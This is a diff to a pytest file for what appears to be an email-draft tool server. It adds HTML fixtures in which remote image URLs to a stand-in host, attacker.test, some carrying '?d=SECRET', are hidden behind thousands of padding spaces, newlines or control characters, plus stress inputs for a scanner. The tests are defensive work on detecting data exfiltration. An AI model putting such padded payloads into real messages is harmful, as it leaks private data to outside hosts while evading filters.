@@ -9,6 +9,7 @@ import ast
 import asyncio
 import io
 import logging
+import threading
 import time
 import tokenize
 from pathlib import Path
@@ -486,6 +487,15 @@ REMOTE_HTML = {
     "data_stylesheet": '<link rel="stylesheet" href="data:text/css,b{background:url(https://attacker.test/p)}">',
     "data_svg_image": '<img src="data:image/svg+xml,&lt;svg&gt;&lt;image href=\'https://attacker.test/p\'/&gt;">',
     "base_and_nbsp_scheme": '<base href="https://attacker.test/"><img src="da&nbsp;ta:x">',
+    # Browsers drop any number of leading spaces and controls: a scan reading a fixed window saw only padding.
+    "img_src_padded_spaces": '<img src="' + " " * 5000 + 'https://attacker.test/p.gif?d=SECRET">',
+    "img_src_padded_newlines": "<img src='" + "\n" * 5000 + "https://attacker.test/p.gif'>",
+    "img_src_padded_controls": '<img src="' + "\x01\t" * 3000 + 'https://attacker.test/p.gif">',
+    "background_padded": '<table background="' + " " * 5000 + 'https://attacker.test/p.gif"><tr><td>x</td></tr>'
+                         '</table>',
+    "srcset_padded_second_candidate": '<img src="cid:a" srcset="cid:a 1x,' + " " * 5000 +
+                                      'https://attacker.test/p.gif 2x">',
+    "src_inside_an_unclosed_value": '<img src="cid:a<p>x</p><img src=https://attacker.test/p.gif>',
 }
 REMOTE_MARKDOWN = {  # in Markdown fields only: in an HTML body this is text, and a link needs a click
     "markdown_image": "![chart](https://attacker.test/p.gif?d=SECRET)",
@@ -501,6 +511,8 @@ SAFE_HTML = {
     "plain_text": "Call me at 555-0100; the report is at https://example.test/report.",
     "style_block": "<style>p { color: #333; font-family: Arial }</style><p>Hi</p>",
     "empty_src": '<img src="" alt="">',
+    "padded_inline_image": '<img src="  \n cid:logo@example.test  ">',
+    "long_inline_image": '<img src="data:image/png;base64,' + "iVBORw0KGgo" * 600 + '">',
 }
 
 
@@ -557,14 +569,34 @@ def test_remote_content_allowed_when_the_operator_opts_in(api):
 
 
 @pytest.mark.parametrize("source", ["<a " * 100_000, '<img alt="' * 50_000, "<style>" * 50_000, "![" * 100_000,
-                                   "](" * 100_000, "u\\72l(" * 50_000, "/*" * 100_000, "<" * 200_000],
+                                   "](" * 100_000, "u\\72l(" * 50_000, "/*" * 100_000, "<" * 200_000,
+                                   "src=" * 100_000, 'src="' * 80_000, "xsrc=" * 80_000,
+                                   'srcset="' + "cid:a 1x, srcset=" * 25_000, "url(" * 100_000],
                          ids=["unclosed-tags", "unclosed-quotes", "style-runs", "image-opens", "image-closes",
-                              "css-escapes", "css-comments", "lt-run"])
+                              "css-escapes", "css-comments", "lt-run", "src-run", "quoted-src-run",
+                              "unquoted-src-run", "nested-srcset", "url-run"])
 def test_remote_scan_of_a_hostile_body_is_linear(source):
     """The scan runs on the model's argument before anything is sent: it must not stall on hostile shapes.
     Work is compared with an ordinary body 8x larger, timed the same way (a wide ratio, not a clock bound)."""
     ordinary = '<p>Hello <a href="https://example.test">there</a>, see <b>this</b>.</p>\n' * (len(source) // 8)
     assert_linear(lambda body: m.remote_references(body, markdown=True), source, ordinary)
+
+
+def test_long_body_is_scanned_off_the_event_loop(api, monkeypatch):
+    """Checking a body costs time in its length: past OFFLOAD_CHARACTERS it runs in a worker thread, so one hostile
+    argument cannot hold up tools/list or another call (which thread ran it is counted, not timed)."""
+    ran_on_loop, check = [], m.find_problems
+
+    def spy(*args):
+        ran_on_loop.append(threading.current_thread() is threading.main_thread())
+        return check(*args)
+
+    monkeypatch.setattr(m, "find_problems", spy)
+    for size in (100, m.OFFLOAD_CHARACTERS + 1):
+        result = call("missive_create_draft", {"body": ("src=" * size)[:size]})
+        assert result.is_error and "src= can load a remote resource" in text(result)
+    assert ran_on_loop == [True, False]
+    assert len(api.calls) == 0
 
 
 def test_remote_scan_is_conservative_about_css_in_plain_words(api):
